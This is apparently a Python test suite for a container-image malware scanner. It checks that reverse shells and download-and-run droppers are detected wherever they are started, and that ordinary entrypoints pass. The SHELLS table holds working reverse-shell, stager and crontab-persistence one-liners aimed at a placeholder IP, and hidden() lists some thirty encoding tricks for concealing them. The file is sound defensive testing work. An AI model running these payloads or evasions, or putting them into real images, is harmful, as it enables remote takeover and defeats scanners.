"""What an image starts is followed to what it comes to: through scripts, variables, files, cron and encodings; what nobody starts is not held against it."""
import base64
import gzip
import hashlib

import support
import images
from images import File, Image

PATH = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
HOST, PORT = "203.0.113.7", 4444

# One spelling of each class of threat-intelligence's table that an image can carry in shell text.
SHELLS = {
    "dev-tcp": f"bash -i >& /dev/tcp/{HOST}/{PORT} 0>&1",
    "netcat": f"nc {HOST} {PORT} -e /bin/sh",
    "pipe-loop": f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {HOST} {PORT} > /tmp/f",
    "python": f"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{HOST}\",{PORT}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
    "awk": "awk 'BEGIN{s=\"/inet/tcp/0/%s/%d\";while(1){do{printf \"> \"|&s;s|&getline c;if(c){while((c|&getline)>0)print $0|&s;close(c)}}while(c!=\"exit\")}}'" % (HOST, PORT),
    "staged": f"curl -s http://{HOST}/a.sh | bash -s",
    "bind": "nc -lvp 4444 -e /bin/sh",
    "host-cron": f"echo '* * * * * curl -s http://{HOST}:8220/logo3.jpg | bash -s' >> /mnt/etc/crontab",
}


def b64(text):
    return base64.b64encode(text.encode()).decode()


def scan(image):
    with support.temporary_folder() as folder:
        images.write_layout(folder, {"latest": image})
        return support.scan(f"oci:{folder}")[1]


def chain_of(report, *steps):
    """The first chain that holds the steps in their order."""
    for finding in report["findings"]:
        if finding["weight"] < 60:
            continue
        rest = iter(finding.get("chain", []))
        if all(any(step == have for have in rest) for step in steps):
            return finding["chain"]
    return None


def expect_malicious(name, image, *steps):
    report = scan(image)
    shown = [(f["rule"], f.get("chain"), f["weight"]) for f in report["findings"]]
    assert report["verdict"] == "malicious", f"{name}: {report['verdict']} {report['score']} {shown}"
    if steps:
        assert chain_of(report, *steps), f"{name}: no chain {steps} in {shown}"
    return report


def expect_clean(name, image):
    report = scan(image)
    assert report["verdict"] == "clean", f"{name}: {report['verdict']} {report['score']} {report['reasons']} {[(f['rule'], f['location']['path'], f['evidence'], f.get('chain')) for f in report['findings']]} {report['coverage']['incomplete']}"


def script(text, mode=0o755, path="/run.sh"):
    return File(path, "#!/bin/sh\n" + text + "\n", mode=mode)


def test_each_class_from_the_entrypoint():
    for name, shell in SHELLS.items():
        expect_malicious(name, Image([images.layer(script(shell))], entrypoint=["/run.sh"]), "config.Entrypoint", "/run.sh:2")
        expect_malicious(name, Image([images.layer(File("x", "x"))], entrypoint=["sh", "-c", shell]), "config.Entrypoint")


def test_each_class_from_cron():
    for name, shell in SHELLS.items():
        if name in ("awk",):  # % has a meaning of its own in a table of cron
            continue
        expect_malicious(name, Image([images.layer(File("etc/cron.d/job", f"# m h dom mon dow user command\n* * * * * root {shell}\n"))], cmd=["/bin/true"]), "cron", "/etc/cron.d/job:2")
    for name, shell in SHELLS.items():
        expect_malicious(name, Image([images.layer(File("etc/crontabs/root", "*/5 * * * * /opt/job\n"), script(shell, path="/opt/job"))], cmd=["/bin/true"]), "cron", "/etc/crontabs/root:1", "/opt/job:2")


def test_each_class_from_a_deleted_layer():
    for name, shell in SHELLS.items():
        report = expect_malicious(name, Image([images.layer(script(shell, path="/opt/x.sh")), images.layer(File("opt/.wh.x.sh"))], cmd=["/bin/true"]))
        assert not [f for f in report["findings"] if f["location"]["path"] == "/opt/x.sh"][0]["location"]["in_final_rootfs"], name


def test_each_class_through_base64_in_a_variable():
    for name, shell in SHELLS.items():
        for how, starter, steps in (("pipe", "echo $P | base64 -d | sh", ("config.Env.P", "base64", "sh")),
                                    ("eval", 'eval "$(echo "$P" | base64 -d)"', ("config.Env.P", "base64", "eval"))):
            env = [PATH, "P=" + b64(shell)]
            expect_malicious(f"{name} {how}", Image([images.layer(script(starter))], entrypoint=["/run.sh"], env=env), "config.Entrypoint", "/run.sh:2", *steps)
            expect_malicious(f"{name} {how} config", Image([images.layer(File("x"))], entrypoint=["/bin/sh", "-c", starter], env=env), "config.Entrypoint", *steps)


def test_each_class_split_over_two_variables():
    for name, shell in SHELLS.items():
        whole = b64(shell)
        env = [PATH, "A=" + whole[:11], "B=" + whole[11:]]
        expect_malicious(name, Image([images.layer(File("x"))], entrypoint=["sh", "-c", "echo $A$B | base64 -d | sh"], env=env), "config.Entrypoint", "config.Env.A", "config.Env.B", "base64", "sh")
        env = [PATH, "A=" + shell[:13], "B=" + shell[13:]]
        expect_malicious(name, Image([images.layer(File("x"))], cmd=["sh", "-c", 'eval "$A$B"'], env=env), "config.Cmd", "config.Env.A", "config.Env.B", "eval")


def test_each_class_through_two_levels_of_scripts():
    for name, shell in SHELLS.items():
        layer = images.layer(script("cd /opt\n. ./lib/env.sh\nexec \"$@\"", path="/entry.sh"), File("opt/lib/env.sh", "export PAYLOAD='%s'\n" % b64(shell)),
                             script("sh /opt/two.sh", path="/opt/one.sh"), File("opt/two.sh", "echo $PAYLOAD | base64 -d | bash\n"))
        expect_malicious(name, Image([layer], entrypoint=["/entry.sh"], cmd=["/opt/one.sh"]),
                         "config.Entrypoint", "/entry.sh:4", "/opt/one.sh:2", "/opt/two.sh:1", "/opt/lib/env.sh", "base64", "bash")


def package_with(path, text):
    """The files of a dpkg package `tool` that has one script."""
    return [File(path, text, mode=0o755), File("var/lib/dpkg/info/tool.md5sums", f"{hashlib.md5(text.encode()).hexdigest()}  {path}\n"),
            File("var/lib/dpkg/info/tool.list", f"/.\n/{path}\n"),
            File("var/lib/dpkg/status", "Package: tool\nStatus: install ok installed\nVersion: 1.0\nArchitecture: all\n\n")]


def test_documentation_and_package_files_leave_the_image_clean():
    for name, shell in SHELLS.items():
        expect_clean(name, Image([images.layer(File("usr/share/doc/tool/examples/shell.txt", shell + "\n"), File("usr/share/doc/tool/README.md", "Run `" + shell + "` to see.\n"))], cmd=["/bin/true"]))
        expect_clean(name, Image([images.layer(*package_with("usr/lib/tool/demo.sh", "#!/bin/sh\n" + shell + "\n"))], cmd=["/bin/true"]))


def hidden(shell):
    """Ways to write a script that runs `shell`, by name."""
    raw = shell.encode()
    packed = base64.b64encode(gzip.compress(raw, mtime=0)).decode()
    quoted = "'" + shell.replace("'", "'\\''") + "'"
    return {
        "branch that is not taken": f'P=$(echo {b64(shell)} | base64 -d); [ -z "$P" ] && P=:\neval "$P"',
        "value of the other branch": f'P={b64(shell)}\nif [ "$1" = never ]; then P=OgoK; fi\necho "$P" | base64 -d | sh',
        "here-document that is run": f"cat > /tmp/x <<'END'\n{shell}\nEND\nchmod +x /tmp/x\n/tmp/x &",
        "file in pieces": f"printf '%s' {b64(shell)[:9]} > /tmp/x\nprintf '%s' {b64(shell)[9:]} >> /tmp/x\nbase64 -d < /tmp/x | sh",
        "decoded into a file": f"echo {b64(shell)} | base64 -d > /tmp/.x; cp /tmp/.x /var/tmp/y; sh /var/tmp/y",
        "function with an argument": f'r() {{ eval "$1"; }}\nr {quoted}',
        "function that prints": f'p() {{ echo {b64(shell)}; }}\neval "$(p | base64 -d)"',
        "alias": f"alias ll={quoted}\nll",
        "gzip and base64": f"echo {packed} | base64 -d | gunzip | sh",
        "xxd": f"echo {raw.hex()} | xxd -r -p | sh",
        "printf with hex": "printf '" + "".join(f"\\x{b:02x}" for b in raw) + "' | sh",
        "ansi quotes": "eval $'" + "".join(f"\\x{b:02x}" for b in raw) + "'",
        "rev": "echo '" + base64.b64encode(raw).decode()[::-1] + "' | rev | base64 -d | sh",
        "tr": "echo " + b64(shell).translate(str.maketrans("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", "nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM")) + " | tr A-Za-z N-ZA-Mn-za-m | base64 -d | sh",
        "openssl": f"echo {b64(shell)} | openssl enc -d -base64 -A | sh",
        "loop over characters": "s=\nfor c in " + " ".join(f"{b:02x}" for b in raw) + "; do s=\"$s$(printf \"\\\\x$c\")\"; done\neval \"$s\"",
        "variable for the child": f"export P={b64(shell)}\nsh -c 'echo $P | base64 -d | sh'",
        "assignment in front": f"P={b64(shell)} sh -c 'eval \"$(echo $P | base64 -d)\"'",
        "positional": f'set -- {b64(shell)} base64 sh; echo $1 | $2 -d | $3',
        "trap": f"trap {quoted} EXIT",
        "three times base64": f"echo {b64(b64(b64(shell)))} | base64 -d | base64 -d | base64 -d | sh",
        "array": "a=(" + " ".join(b64(shell)[i:i + 7] for i in range(0, len(b64(shell)), 7)) + ")\nx=$(printf %s \"${a[@]}\")\nbash <<< \"$(echo $x | base64 -d)\"",
        "indirect": f'V=P; P={b64(shell)}; eval "$(echo ${{!V}} | base64 -d)"',
        "read": f"read -r x <<END\n{b64(shell)}\nEND\necho $x | base64 -d | sh",
        "source": f"echo {b64(shell)} | base64 -d > /tmp/lib; . /tmp/lib",
        "cut": f"echo x:{b64(shell)}:y | cut -d: -f2 | base64 -d | sh",
        "sed": f"echo '{b64(shell)[:5]}@@{b64(shell)[5:]}' | sed 's/@@//' | base64 -d | sh",
        "tac and head": f"printf 'a\\n%s\\n' {b64(shell)} | tac | head -n 1 | base64 -d | sh",
    }


def test_evasions_are_undone():
    for name, shell in (("dev-tcp", SHELLS["dev-tcp"]), ("staged", SHELLS["staged"]), ("netcat", SHELLS["netcat"])):
        for how, text in hidden(shell).items():
            report = scan(Image([images.layer(File("run.sh", "#!/bin/bash\n" + text + "\n", mode=0o755))], entrypoint=["/run.sh"]))
            right = [f for f in report["findings"] if f["rule"].startswith(("reverse-shell.", "dropper.fetch-and-run"))]
            assert right and report["verdict"] == "malicious", f"{name} {how}: {report['verdict']} {[(f['rule'], f['evidence'], f.get('chain')) for f in report['findings']]}"
            assert "config.Entrypoint" in right[0]["chain"], f"{name} {how}: {right[0]['chain']}"


STARTERS = {
    "tini": dict(entrypoint=["/usr/bin/tini", "--", "/opt/r.sh"]),
    "dumb-init": dict(entrypoint=["dumb-init", "/opt/r.sh"]),
    "gosu": dict(entrypoint=["/e.sh"], cmd=["/opt/r.sh"], files=[File("e.sh", "#!/bin/sh\nset -e\nif [ \"${1#-}\" != \"$1\" ]; then set -- server \"$@\"; fi\nexec gosu app \"$@\"\n", mode=0o755)]),
    "env": dict(entrypoint=["env", "A=b", "nohup", "setsid", "timeout", "-k", "5", "60", "/opt/r.sh"]),
    "su": dict(entrypoint=["su", "-c", "/opt/r.sh", "app"]),
    "working folder": dict(entrypoint=["./r.sh"], working_dir="/opt"),
    "search path": dict(entrypoint=["r.sh"], env=["PATH=/opt:/usr/bin:/bin"]),
    "symlinks": dict(entrypoint=["/usr/local/bin/server"], files=[File("usr/local/bin", link="/srv/bin"), File("srv/bin/server", link="../../opt/r.sh")]),
    "interpreter line": dict(entrypoint=["/opt/app"], files=[File("opt/app", "#!/opt/r.sh -x\nhello\n", mode=0o755)]),
    "entrypoint folder": dict(entrypoint=["/e.sh"], files=[File("e.sh", "#!/bin/sh\nfor f in /init.d.custom/*.sh; do . \"$f\"; done\nexec nginx\n", mode=0o755), File("init.d.custom/10-x.sh", "sh /opt/r.sh &\n")]),
    "run-parts": dict(entrypoint=["/e.sh"], files=[File("e.sh", "#!/bin/sh\nrun-parts /srv/start\n", mode=0o755), File("srv/start/10x", "#!/bin/sh\n/opt/r.sh\n", mode=0o755)]),
    "supervisord": dict(entrypoint=["supervisord", "-n", "-c", "/srv/s.conf"], files=[File("srv/s.conf", "[supervisord]\nnodaemon=true\n[include]\nfiles = conf.d/*.ini\n"), File("srv/conf.d/a.ini", "[program:a]\ncommand=/bin/sh -c \"/opt/r.sh\"\n")]),
    "s6 services.d": dict(entrypoint=["/init"], files=[File("etc/services.d/app/run", "#!/usr/bin/with-contenv sh\nexec /opt/r.sh\n", mode=0o755)], first="s6"),
    "s6-rc": dict(entrypoint=["/init"], files=[File("etc/s6-overlay/s6-rc.d/app/up", "/opt/r.sh\n")], first="s6"),
    "runit": dict(entrypoint=["runsvdir", "/etc/service"], files=[File("etc/service/app/run", "#!/bin/sh\nexec /opt/r.sh\n", mode=0o755)]),
    "systemd": dict(entrypoint=["/sbin/init"], files=[File("etc/systemd/system/app.service", "[Unit]\nDescription=app\n[Service]\nExecStart=-/opt/r.sh --now\n")], first="systemd"),
    "rc.local": dict(cmd=["/sbin/init"], files=[File("etc/rc.local", "#!/bin/sh\n/opt/r.sh &\nexit 0\n", mode=0o755)], first="init"),
    "profile.d": dict(cmd=["bash", "-l"], files=[File("etc/profile.d/x.sh", "(/opt/r.sh &)\n")], first="login shell"),
    "user crontab": dict(cmd=["crond", "-f"], files=[File("var/spool/cron/crontabs/root", "MAILTO=\"\"\n@reboot /opt/r.sh\n")], first="cron"),
    "crontab with input": dict(cmd=["crond", "-f"], files=[File("etc/cron.d/x", "* * * * * root sh%/opt/r.sh%\n")], first="cron"),
    "periodic": dict(cmd=["crond", "-f"], files=[File("etc/periodic/15min/x", "#!/bin/sh\n/opt/r.sh\n", mode=0o755)], first="cron"),
    "healthcheck": dict(cmd=["nginx"], healthcheck=["CMD-SHELL", "/opt/r.sh || exit 1"], first="config.Healthcheck"),
    "onbuild": dict(cmd=["nginx"], onbuild=["RUN /opt/r.sh"], first="config.OnBuild[0]"),
    "BASH_ENV": dict(cmd=["bash"], env=[PATH, "BASH_ENV=/opt/r.sh"], first="config.Env.BASH_ENV"),
    "PROMPT_COMMAND": dict(cmd=["bash"], env=[PATH, "PROMPT_COMMAND=/opt/r.sh &"], first="config.Env.PROMPT_COMMAND"),
    "NODE_OPTIONS": dict(cmd=["node", "x.js"], env=[PATH, "NODE_OPTIONS=--require /opt/x.js"], files=[File("opt/x.js", "require('child_process').spawn('/opt/r.sh')\n")], first="config.Env.NODE_OPTIONS"),
    "PYTHONSTARTUP": dict(cmd=["python3"], env=[PATH, "PYTHONSTARTUP=/opt/x.py"], files=[File("opt/x.py", "import os\nos.system('/opt/r.sh')\n")], first="config.Env.PYTHONSTARTUP"),
    "PYTHONPATH": dict(cmd=["python3"], env=[PATH, "PYTHONPATH=/srv"], files=[File("srv/sitecustomize.py", "import os\nos.system('/opt/r.sh')\n")], first="config.Env.PYTHONPATH"),
    "python": dict(entrypoint=["python3", "-u", "/app/main.py"], files=[File("app/main.py", "import app.helper\n"), File("app/app/helper.py", "import subprocess\nsubprocess.Popen(['/opt/r.sh'])\n")]),
    "python -m": dict(entrypoint=["python3", "-m", "app.main"], working_dir="/srv", files=[File("srv/app/main.py", "import subprocess\nsubprocess.call('sh /opt/r.sh &', shell=True)\n")]),
    "node": dict(entrypoint=["node", "/app/index.js"], files=[File("app/index.js", "const a = require('./lib/a');\n"), File("app/lib/a.js", "require('child_process').exec('/opt/r.sh');\n")]),
    "php": dict(entrypoint=["php", "/app/index.php"], files=[File("app/index.php", "<?php include __DIR__ . '/inc/a.php';\n"), File("app/inc/a.php", "<?php exec('/opt/r.sh');\n")]),
    "perl": dict(entrypoint=["perl", "/app/x.pl"], files=[File("app/x.pl", "system(\"/opt/r.sh\");\n")]),
    "ruby": dict(entrypoint=["ruby", "/app/x.rb"], files=[File("app/x.rb", "require_relative 'lib/y'\n"), File("app/lib/y.rb", "exec '/opt/r.sh'\n")]),
    "find": dict(entrypoint=["/e.sh"], files=[File("e.sh", "#!/bin/sh\nfind /srv/start -type f | sort | while read -r f; do \"$f\"; done\n", mode=0o755), File("srv/start/10x.sh", "#!/bin/sh\n/opt/r.sh\n", mode=0o755)]),
    "cd": dict(entrypoint=["/e.sh"], files=[File("e.sh", "#!/bin/sh\nHERE=\"$(cd \"$(dirname \"$0\")\" && pwd)\"\ncd \"$HERE/opt\" || exit 1\n./r.sh\n", mode=0o755)]),
    "code in a word": dict(entrypoint=["python3", "-c", "import os; os.system('/opt/r.sh')"]),
    "code with a variable": dict(entrypoint=["perl", "-e", "system($ENV{RUN})"], env=[PATH, "RUN=sh /opt/r.sh"]),
    "program with a variable": dict(entrypoint=["python3", "/app/m.py"], env=[PATH, "RUN=sh /opt/r.sh"], files=[File("app/m.py", "import os\nos.system(os.environ['RUN'])\n")]),
    "shell by another name": dict(entrypoint=["/opt/server", "-c", "sh /opt/r.sh"]),
    "job in a script": dict(entrypoint=["/e.sh"], files=[File("e.sh", "#!/bin/sh\necho '* * * * * /opt/r.sh' | crontab -\ncrond -f\n", mode=0o755)]),
}


def test_everything_that_starts_programs_is_followed():
    for name, how in STARTERS.items():
        how = dict(how)
        files, first = how.pop("files", []), how.pop("first", None)
        first = first or ("config.Entrypoint" if "entrypoint" in how else "config.Cmd")
        layer = images.layer(File("opt/r.sh", "#!/bin/bash\n" + SHELLS["dev-tcp"] + "\n", mode=0o755), *files)
        expect_malicious(name, Image([layer], **how), first, "/opt/r.sh:2")


def test_a_script_that_exhausts_its_reader_is_not_clean():
    text = "a=12345678\n" + "a=$a$a\n" * 40 + "eval \"$A$B\"\n"
    report = scan(Image([images.layer(script(text))], entrypoint=["/run.sh"], env=[PATH, "A=" + SHELLS["netcat"][:7], "B=" + SHELLS["netcat"][7:]]))
    assert report["verdict"] != "clean" and report["coverage"]["incomplete"], report["verdict"]


def test_a_package_script_that_exhausts_its_reader_leaves_the_image_clean():
    text = "#!/bin/sh\na=12345678\n" + "a=$a$a\n" * 40
    expect_clean("package", Image([images.layer(*package_with("usr/bin/tool", text))], entrypoint=["/usr/bin/tool"]))
    changed = images.layer(*package_with("usr/bin/tool", text), File("usr/bin/other", text + "eval $a\n", mode=0o755))
    report = scan(Image([changed], entrypoint=["/usr/bin/other"]))
    assert report["verdict"] == "incomplete" and [part["path"] for part in report["coverage"]["incomplete"]] == ["/usr/bin/other"], report["coverage"]


def test_a_payload_that_is_fetched_by_one_script_and_started_by_another():
    layer = images.layer(script("/opt/get.sh\n/opt/start.sh", path="/e.sh"), script("curl -fsSL -o /var/lib/agent https://download.example/agent\nchmod +x /var/lib/agent", path="/opt/get.sh"), script("exec /var/lib/agent --quiet", path="/opt/start.sh"))
    report = scan(Image([layer], entrypoint=["/e.sh"]))
    found = [f for f in report["findings"] if f["rule"] == "dropper.payload-outside"]
    assert found and found[0]["location"]["path"] == "/opt/start.sh" and found[0]["chain"][0] == "config.Entrypoint", report["findings"]
    assert report["verdict"] == "suspicious"


# Entrypoints as well-known images have them, in words of our own.
INNOCENT = {
    "web server": dict(entrypoint=["/docker-entrypoint.sh"], cmd=["nginx", "-g", "daemon off;"], files={
        "docker-entrypoint.sh": """#!/bin/sh
set -e
log() { if [ -z "${QUIET:-}" ]; then echo "$@"; fi; }
if [ "$1" = "nginx" ] || [ "$1" = "nginx-debug" ]; then
    if /usr/bin/find "/docker-entrypoint.d/" -mindepth 1 -maxdepth 1 -type f -print -quit 2>/dev/null | read v; then
        find "/docker-entrypoint.d/" -follow -type f -print | sort -V | while read -r f; do
            case "$f" in
                *.envsh) if [ -x "$f" ]; then log "sourcing $f"; . "$f"; fi ;;
                *.sh) if [ -x "$f" ]; then log "running $f"; "$f"; fi ;;
                *) log "ignoring $f" ;;
            esac
        done
    fi
fi
exec "$@"
""",
        "docker-entrypoint.d/10-listen-on-ipv6.sh": """#!/bin/sh
set -eu
file=etc/nginx/conf.d/default.conf
[ -f "/$file" ] || exit 0
touch /$file 2>/dev/null || exit 0
echo "$(md5sum /$file)" | md5sum -c - >/dev/null 2>&1 || exit 0
sed -i -E 's,listen       80;,listen       80;\n    listen  [::]:80;,' /$file
""",
        "docker-entrypoint.d/20-envsubst.sh": """#!/bin/sh
set -e
defined=$(printf '${%s} ' $(awk "END { for (name in ENVIRON) { print ( name ~ /${FILTER:-.*}/ ) ? name : \"\" } }" < /dev/null))
find /etc/nginx/templates -follow -type f -name '*.template' -print | while read -r t; do envsubst "$defined" < "$t" > "/etc/nginx/conf.d/$(basename "$t" .template)"; done
"""}),
    "database": dict(entrypoint=["docker-entrypoint.sh"], cmd=["postgres"], env=[PATH, "PGDATA=/var/lib/postgresql/data", "GOSU_VERSION=1.17"], files={
        "usr/local/bin/docker-entrypoint.sh": """#!/usr/bin/env bash
set -Eeo pipefail
file_env() {
    local var="$1"
    local fileVar="${var}_FILE"
    local def="${2:-}"
    local val="$def"
    if [ "${!var:-}" ]; then val="${!var}"; elif [ "${!fileVar:-}" ]; then val="$(< "${!fileVar}")"; fi
    export "$var"="$val"
    unset "$fileVar"
}
process_init_files() {
    psql=( docker_process_sql )
    local f
    for f; do
        case "$f" in
            *.sh) if [ -x "$f" ]; then "$f"; else . "$f"; fi ;;
            *.sql) docker_process_sql -f "$f" ;;
            *.sql.gz) gunzip -c "$f" | docker_process_sql ;;
            *.sql.xz) xzcat "$f" | docker_process_sql ;;
        esac
    done
}
docker_process_sql() { local query=( psql -v ON_ERROR_STOP=1 --no-password ); PGHOST= PGHOSTADDR= "${query[@]}" "$@"; }
_main() {
    if [ "${1:0:1}" = '-' ]; then set -- postgres "$@"; fi
    if [ "$1" = 'postgres' ]; then
        file_env POSTGRES_PASSWORD
        file_env POSTGRES_USER postgres
        mkdir -p "$PGDATA"; chmod 00700 "$PGDATA" || :
        if [ "$(id -u)" = '0' ]; then
            find "$PGDATA" \! -user postgres -exec chown postgres '{}' +
            exec gosu postgres "$BASH_SOURCE" "$@"
        fi
        if [ ! -s "$PGDATA/PG_VERSION" ]; then
            ls /docker-entrypoint-initdb.d/ > /dev/null
            eval 'initdb --username="$POSTGRES_USER" --pwfile=<(printf "%s\n" "$POSTGRES_PASSWORD") '"$POSTGRES_INITDB_ARGS"' "$@"'
            process_init_files /docker-entrypoint-initdb.d/*
        fi
    fi
    exec "$@"
}
if ! [ "${#FUNCNAME[@]}" -ge 2 ]; then _main "$@"; fi
""",
        "docker-entrypoint-initdb.d/10-users.sh": "#!/bin/bash\nset -e\npsql -v ON_ERROR_STOP=1 --username \"$POSTGRES_USER\" <<-EOSQL\n\tCREATE USER app;\nEOSQL\n"}),
    "cache": dict(entrypoint=["docker-entrypoint.sh"], cmd=["redis-server"], files={
        "usr/local/bin/docker-entrypoint.sh": """#!/bin/sh
set -e
if [ "${1#-}" != "$1" ] || [ "${1%.conf}" != "$1" ]; then set -- redis-server "$@"; fi
if [ "$1" = 'redis-server' -a "$(id -u)" = '0' ]; then
    find . \\! -user redis -exec chown redis '{}' +
    exec su-exec redis "$0" "$@"
fi
um="$(umask)"; if [ "$um" = '0022' ]; then umask 0077; fi
exec "$@"
"""}),
    "application that waits": dict(entrypoint=["/entrypoint.sh"], cmd=["gunicorn", "-b", "0.0.0.0:8000", "app.wsgi"], env=[PATH, "DB_HOST=db", "DB_PORT=5432", "PYTHONUNBUFFERED=1"], working_dir="/app", files={
        "entrypoint.sh": """#!/bin/bash
set -e
until (echo > /dev/tcp/$DB_HOST/$DB_PORT) > /dev/null 2>&1; do echo "waiting for $DB_HOST"; sleep 1; done
while ! nc -z "$DB_HOST" "$DB_PORT"; do sleep 0.1; done
exec 3<>/dev/tcp/${DB_HOST}/80 && printf 'GET /health HTTP/1.0\r\n\r\n' >&3 && grep -q ok <&3 || true
python manage.py migrate --noinput
python manage.py collectstatic --noinput --clear
if [ -n "$SSH_KEY" ]; then mkdir -p ~/.cache; echo "$SSH_KEY" | base64 -d > ~/.cache/key; chmod 600 ~/.cache/key; fi
exec "$@"
""",
        "app/manage.py": "#!/usr/bin/env python\nimport os, sys\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'app.settings')\nfrom django.core.management import execute_from_command_line\nexecute_from_command_line(sys.argv)\n",
        "app/app/wsgi.py": "import os, socket, subprocess\nsubprocess.call(['true'])\n"}),
    "services under supervision": dict(entrypoint=["/usr/bin/supervisord", "-c", "/etc/supervisor/supervisord.conf"], files={
        "etc/supervisor/supervisord.conf": "[supervisord]\nnodaemon=true\n[include]\nfiles = /etc/supervisor/conf.d/*.conf\n",
        "etc/supervisor/conf.d/web.conf": "[program:web]\ncommand=/bin/bash -c \"exec nginx -g 'daemon off;'\"\n[program:cron]\ncommand=cron -f\n[program:worker]\ncommand=celery -A app worker\nenvironment=A=\"b\"\n"}),
    "jobs": dict(cmd=["crond", "-f", "-l", "2"], files={
        "etc/crontabs/root": "# min hour day month weekday command\n*/15 * * * * run-parts /etc/periodic/15min\n0 3 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1\n*/5 * * * * curl -fsS -m 10 --retry 5 -o /dev/null https://health.example/ping\n",
        "usr/local/bin/backup.sh": """#!/bin/sh
set -eu
stamp=$(date +%Y%m%d)
pg_dump -h "$PGHOST" "$PGDATABASE" | gzip > "/backups/$stamp.sql.gz"
aws s3 cp "/backups/$stamp.sql.gz" "s3://$BUCKET/"
find /backups -mtime +14 -delete
rm -rf /tmp/backup.*
"""}),
    "services of s6": dict(entrypoint=["/init"], files={
        "etc/services.d/app/run": "#!/usr/bin/with-contenv bash\nexec s6-setuidgid abc /app/server --config /config/app.ini\n",
        "etc/cont-init.d/20-config": "#!/usr/bin/with-contenv bash\n[[ ! -e /config/app.ini ]] && cp /defaults/app.ini /config/\nchown -R abc:abc /config\n",
        "etc/cont-init.d/10-adduser": "#!/usr/bin/with-contenv bash\nPUID=${PUID:-911}\nPGID=${PGID:-911}\ngroupmod -o -g \"$PGID\" abc\nusermod -o -u \"$PUID\" abc\n"}),
    "tunnel of its own": dict(entrypoint=["/e.sh"], files={
        "e.sh": """#!/bin/sh
set -e
iptables -F
iptables -t nat -A POSTROUTING -s 10.8.0.0/24 -o eth0 -j MASQUERADE
mkdir -p /dev/net
[ -c /dev/net/tun ] || mknod /dev/net/tun c 10 200
exec openvpn --config /etc/openvpn/server.conf
"""}),
    "java": dict(entrypoint=["sh", "-c", "exec java $JAVA_OPTS -Djava.security.egd=file:/dev/./urandom -jar /app/app.jar"], env=[PATH, "JAVA_OPTS=-Xmx512m -XX:+UseContainerSupport", "JAVA_TOOL_OPTIONS=-javaagent:/opt/otel/agent.jar"], files={"app/app.jar": "PK", "opt/otel/agent.jar": "PK"}),
    "node": dict(entrypoint=["docker-entrypoint.sh"], cmd=["node", "server.js"], working_dir="/srv", files={
        "usr/local/bin/docker-entrypoint.sh": "#!/bin/sh\nset -e\nif [ \"${1#-}\" != \"${1}\" ] || [ -z \"$(command -v \"${1}\")\" ] || { [ -f \"${1}\" ] && ! [ -x \"${1}\" ]; }; then\n  set -- node \"$@\"\nfi\nexec \"$@\"\n",
        "srv/server.js": "const http = require('http'); const net = require('net'); const { execFile } = require('child_process');\nhttp.createServer((q, r) => r.end('ok')).listen(8080);\nnet.connect(5432, 'db').on('data', d => console.log(d));\n"}),
    "health check": dict(cmd=["nginx"], healthcheck=["CMD-SHELL", "curl -fsS http://127.0.0.1/health | grep -q ok || exit 1"], files={"x": "x"}),
    "configuration from a variable": dict(entrypoint=["/e.sh"], env=[PATH, "CONFIG=" + b64('{"listen": "0.0.0.0:8080", "workers": 4}')], files={
        "e.sh": "#!/bin/sh\necho \"$CONFIG\" | base64 -d > /etc/app.json\nfor pair in a=1 b=2 c=3; do export \"$pair\"; done\neval \"$(dircolors -b 2>/dev/null)\"\neval \"$(ssh-agent -s)\" >/dev/null\nexec app --config /etc/app.json\n"}),
    "development server": dict(cmd=["sh", "-c", "npm install && npm start"], files={"package.json": "{}"}),
    "checked download": dict(entrypoint=["/e.sh"], files={
        "e.sh": "#!/bin/sh\nset -e\ncurl -fsSLo /tmp/tool https://host.example/v1.2.3/tool\necho '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  /tmp/tool' | sha256sum -c -\nchmod +x /tmp/tool\nexec /tmp/tool serve\n"}),
    "settings that are only read": dict(entrypoint=["runner", "--config", "/etc/runner.yml", "/etc/hints.txt"], files={
        "etc/runner.yml": "steps:\n  - run: curl -fsSL https://host.example/setup.sh | bash -s\n", "etc/hints.txt": "curl -fsSL https://host.example/install.sh | sh\n"}),
    "builder of staging trees": dict(entrypoint=["/e.sh"], files={
        "e.sh": "#!/bin/sh\nROOT=${ROOT:-/build/stage}\nmkdir -p $ROOT/etc $ROOT/root\ncp /etc/hosts $ROOT/etc/hosts\necho build > $ROOT/etc/hostname\ntar -C $ROOT -czf /out/root.tgz .\n"}),
}


def test_entrypoints_of_honest_images_are_clean():
    for name, how in INNOCENT.items():
        how = dict(how)
        files = [File(path, text, mode=0o755) for path, text in how.pop("files").items()]
        expect_clean(name, Image([images.layer(*files)], **how))


if __name__ == "__main__":
    support.main(globals())
